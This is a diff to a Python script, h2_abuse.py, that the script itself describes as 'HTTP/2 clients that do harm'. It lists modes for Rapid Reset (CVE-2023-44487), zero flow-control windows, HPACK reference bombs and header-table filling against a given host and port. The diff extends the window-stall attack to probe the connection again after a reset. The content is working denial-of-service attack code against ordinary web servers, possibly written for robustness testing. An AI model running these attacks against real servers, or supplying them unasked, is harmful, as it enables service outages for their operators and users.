@@ -1,7 +1,7 @@
 """HTTP/2 clients that do harm, in clear, by the `h2` and `hpack` packages. Says how it ended, as JSON.
 
     h2_abuse.py resets HOST:PORT COUNT     opens streams and resets them at once (CVE-2023-44487)
-    h2_abuse.py window HOST:PORT PATH      asks with its windows closed, and never opens them
+    h2_abuse.py window HOST:PORT PATH      asks with the stream's window closed and never opens it, then asks again with one
     h2_abuse.py bomb HOST:PORT COUNT       refers to one large field COUNT times in a block of a few bytes each
     h2_abuse.py tables HOST:PORT COUNT     fills the table with COUNT large fields, then asks for a page
 
@@ -96,8 +96,14 @@ def window(authority, path):
     stream, client = connect(authority, {h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
     client.send_headers(1, fields("a", path), end_stream=True)
     stream.sendall(client.data_to_send())
-    begun = time.monotonic()
-    return {**end(stream, client, 1), "seconds": time.monotonic() - begun}
+    ended = end(stream, client, 1)
+    # The connection goes on: another stream, with a window.
+    if ended["ended"] == "reset":
+        client.send_headers(3, fields("a", "/name"), end_stream=True)
+        client.increment_flow_control_window(65_535, 3)
+        stream.sendall(client.data_to_send())
+        ended["after"] = end(stream, client, 3)["ended"]
+    return ended
 
 
 def block(stream, number, data):
